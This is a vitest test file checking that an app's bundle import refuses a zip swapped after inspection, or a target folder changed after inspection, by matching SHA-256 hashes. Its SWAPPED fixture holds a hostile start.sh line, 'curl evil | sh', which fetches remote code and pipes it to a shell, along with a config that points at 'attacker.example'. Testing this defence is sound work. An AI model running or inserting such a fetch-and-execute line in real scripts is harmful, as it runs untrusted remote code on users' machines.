// The Bundles page asks before overwriting, from what bundle:inspect showed. If the zip is swapped
// between that question and the unpack, the approval must not carry over to the new bundle: the
// import is tied to the SHA-256 of the bytes that were inspected. Real dispatch and handlers, real
// files on disk.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { dispatch, JobRegistry, type CallContext } from '../../main/ipc/dispatch';
import { createHandlers } from '../../main/ipc/handlers';
import { createBundle, importBundle, type BundleFile } from '../../main/services/bundle';
import { NO_CIPHER } from '../../main/services/deps';
import { MemoryStore } from '../../main/services/store';
import { SecretVault } from '../../main/services/vault';
import { contract } from '../../shared/ipc';

const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'ao-drift-'));
const enc = (t: string): Uint8Array => new TextEncoder().encode(t);
const hex = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');

async function zipOf(files: BundleFile[]): Promise<Uint8Array> {
  const b = await createBundle({ files, platform: null, variant: null, appVersion: 't', bundleName: 'agent.zip' });
  if (!b.ok) throw new Error(b.error.message);
  return b.value.zip;
}

const APPROVED: BundleFile[] = [{ path: 'start.sh', data: enc('#!/bin/sh\nexec agent start\n'), mode: 0o755, secret: false }];
// What the swapped-in bundle carries: the approved file, plus files the user was never asked about.
const SWAPPED: BundleFile[] = [
  { path: 'start.sh', data: enc('#!/bin/sh\ncurl evil | sh\n'), mode: 0o755, secret: false },
  { path: 'agent.cfg', data: enc('server=attacker.example\n'), mode: 0o644, secret: false },
];

/** Every file under dir with its content, to prove a refused import wrote nothing. */
function snapshot(dir: string): Record<string, string> {
  return Object.fromEntries(
    readdirSync(dir, { recursive: true, encoding: 'utf8' })
      .sort()
      .map((f) => [f, readFileSync(path.join(dir, f), 'utf8')]),
  );
}

function app() {
  const handlers = createHandlers(
    { mode: 'browser', version: 't', store: new MemoryStore(), cipher: NO_CIPHER, dataDir: tmp(), vault: new SecretVault() },
    new JobRegistry(),
  );
  const ctx: CallContext = { senderId: 's', jobs: new JobRegistry(), emit: () => undefined };
  return async <T = Record<string, unknown>>(
    channel: keyof typeof contract,
    input: unknown,
  ): Promise<{ ok: boolean; value?: T; error?: { code: string; message: string } }> => (await dispatch(contract, handlers, channel, input, ctx)) as never;
}

/** A target folder where the approved bundle would overwrite start.sh and agent.cfg is the user's own. */
function targetFolder(): string {
  const to = path.join(tmp(), 'agent');
  mkdirSync(to);
  writeFileSync(path.join(to, 'start.sh'), '#!/bin/sh\necho mine\n');
  writeFileSync(path.join(to, 'agent.cfg'), 'server=real.example\n');
  return to;
}

interface Inspected {
  sha256: string;
  files: { path: string; target?: string; targetSha256?: string | null }[];
}

/** The approved bundle on disk, a target folder it would change, and what bundle:inspect showed of both. */
async function approvedAndInspected(): Promise<{ call: ReturnType<typeof app>; file: string; to: string; inspected: { value?: Inspected } }> {
  const call = app();
  const file = path.join(tmp(), 'agent.zip');
  writeFileSync(file, await zipOf(APPROVED));
  const to = targetFolder();
  return { call, file, to, inspected: await call<Inspected>('bundle:inspect', { file, to }) };
}

/** What the app sends back when the user approves the overwrite inspect showed. */
function approval(inspected: Inspected): { expectedBundleSha256: string; expectedTargets: Record<string, string | null> } {
  return { expectedBundleSha256: inspected.sha256, expectedTargets: Object.fromEntries(inspected.files.map((f) => [f.path, f.targetSha256 ?? null])) };
}

describe('an overwrite approved in bundle:inspect', () => {
  it('is refused with FILE_CHANGED, writing nothing, when the zip was replaced by another valid bundle before bundle:import', async () => {
    const { call, file, to, inspected } = await approvedAndInspected();
    expect(inspected.value?.sha256).toBe(hex(readFileSync(file)));
    expect(inspected.value?.files.filter((f) => f.target === 'overwrite').map((f) => f.path)).toEqual(['start.sh']);

    writeFileSync(file, await zipOf(SWAPPED));
    const before = snapshot(to);
    const r = await call('bundle:import', { jobId: 'i1', file, to, overwrite: true, ...approval(inspected.value!) });
    expect(r.error?.code).toBe('FILE_CHANGED');
    expect(r.error?.message).toMatch(/changed since it was opened/);
    expect(snapshot(to)).toEqual(before);
  });

  it('unpacks when the bundle is still the one inspected', async () => {
    const { call, file, to, inspected } = await approvedAndInspected();
    const r = await call<{ written: { path: string; status: string }[] }>('bundle:import', {
      jobId: 'i2',
      file,
      to,
      overwrite: true,
      ...approval(inspected.value!),
    });
    expect(r.error).toBeUndefined();
    expect(r.value!.written.map((w) => w.status)).toEqual(['created', 'updated']);
    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('exec agent start');
    expect(readFileSync(path.join(to, 'agent.cfg'), 'utf8')).toBe('server=real.example\n');
  });

  it.each([
    ['a file it replaces was edited', (to: string) => writeFileSync(path.join(to, 'start.sh'), '#!/bin/sh\necho edited after the look\n')],
    ['a file it would create appeared', (to: string) => writeFileSync(path.join(to, 'README.md'), 'planted after the look\n')],
  ])('is refused with FILE_CHANGED, writing nothing, when %s in the folder after bundle:inspect', async (_what, drift) => {
    const { call, file, to, inspected } = await approvedAndInspected();
    expect(inspected.value!.files.find((f) => f.path === 'README.md')).toMatchObject({ target: 'create', targetSha256: null });
    drift(to);
    const before = snapshot(to);
    const r = await call('bundle:import', { jobId: 'i5', file, to, overwrite: true, ...approval(inspected.value!) });
    expect(r.error?.code).toBe('FILE_CHANGED');
    expect(snapshot(to)).toEqual(before);
  });

  it('cannot be given over IPC without the hash of the inspected bundle', async () => {
    const call = app();
    const file = path.join(tmp(), 'agent.zip');
    writeFileSync(file, await zipOf(APPROVED));
    const to = targetFolder();
    const before = snapshot(to);
    const r = await call('bundle:import', { jobId: 'i3', file, to, overwrite: true });
    expect(r.error?.code).toBe('BAD_INPUT');
    expect(r.error?.message).toMatch(/expectedBundleSha256/);
    const inspected = await call<Inspected>('bundle:inspect', { file, to });
    const noTargets = await call('bundle:import', { jobId: 'i6', file, to, overwrite: true, expectedBundleSha256: inspected.value!.sha256 });
    expect(noTargets.error?.message).toMatch(/expectedTargets/);
    expect(snapshot(to)).toEqual(before);
    // Without overwriting, the hash stays optional (nothing the user approved can drift).
    const fresh = path.join(tmp(), 'fresh');
    expect((await call('bundle:import', { jobId: 'i4', file, to: fresh })).ok).toBe(true);
  });

  it('is checked by the service too, before anything is unpacked (the CLI may pass it)', async () => {
    const to = path.join(tmp(), 'agent');
    const r = await importBundle(await zipOf(SWAPPED), to, { overwrite: true, expectedBundleSha256: hex(await zipOf(APPROVED)) });
    expect(r.ok === false && r.error.code).toBe('FILE_CHANGED');
    expect(existsSync(to)).toBe(false);
  });
});
